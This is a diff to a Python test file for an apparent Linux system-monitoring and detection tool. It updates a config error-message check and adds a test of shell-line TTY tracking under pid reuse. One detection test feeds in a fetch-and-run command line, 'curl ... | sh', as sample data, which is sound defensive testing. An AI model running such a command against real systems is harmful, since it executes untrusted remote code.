@@ -14,7 +14,8 @@ from sysmonx.schema import CURRENT, extended, get_schema, sysmon_only
 from sysmonx.schema.printer import render_schema_output
 from sysmonx.sensor import observations as ob
 from sysmonx.sensor.assemble import Assembler
-from sysmonx.sensor.backends.shell import elf_symbol_offset, parse_line
+from sysmonx.sensor.backends.shell import (TTY_MEMORY, elf_symbol_offset, parse_line,
+                                          tty_for_line)
 from sysmonx.sensor.process import ProcessCache
 from sysmonx.sensor.visibility import RATE_MAX, memfd_flags_text, prot_text
 
@@ -54,7 +55,8 @@ def test_extension_tags_are_refused_with_extensions_off():
            '<ShellCommand onmatch="exclude"><Command condition="begin with">ls</Command>'
            '</ShellCommand></RuleGroup></EventFiltering></Sysmon>')
     assert parse_config(src).rule_sets[0].tag == "ShellCommand"
-    with pytest.raises(ConfigError, match=r"<ShellCommand> is a SysmonX event"):
+    with pytest.raises(ConfigError, match=r"<ShellCommand> filters a SysmonX event \(EventID "
+                                          r"210\); SysmonX extensions are disabled"):
         parse_config(src, extensions=False)
     # a field of an extension event is not a Sysmon field inside <Rule> either
     with pytest.raises(ConfigError, match="Command"):
@@ -140,3 +142,25 @@ level: high
                 provider=LINUX_PROVIDER)
     miss = Event(1, {"CommandLine": "curl -s http://x/i.sh | sh"}, provider=LINUX_PROVIDER)
     assert len(det.process(hit)) == 1 and det.process(miss) == []
+
+
+def test_shell_line_tty_survives_the_shell_exiting_but_never_moves_to_a_live_pid():
+    known: dict = {}
+    ttys = {42: "/dev/pts/3"}
+    alive = {42}
+
+    read, is_alive = (lambda p: ttys.get(p) if p in alive else None), (lambda p: p in alive)
+    assert tty_for_line(42, known, read, is_alive) == "/dev/pts/3"
+    alive.clear()  # "exit" read, then bash gone before its line was handled
+    assert tty_for_line(42, known, read, is_alive) == "/dev/pts/3"
+    alive.add(42)
+    ttys.pop(42)  # pid reused by a process without a terminal: forgotten, not inherited
+    assert tty_for_line(42, known, read, is_alive) is None
+    alive.clear()
+    assert tty_for_line(42, known, read, is_alive) is None
+    assert tty_for_line(7, known, read, is_alive) is None  # never seen
+    for pid in range(TTY_MEMORY + 10):  # bounded
+        alive.add(pid)
+        ttys[pid] = "/dev/pts/1"
+        tty_for_line(pid, known, read, is_alive)
+    assert len(known) == TTY_MEMORY and 0 not in known
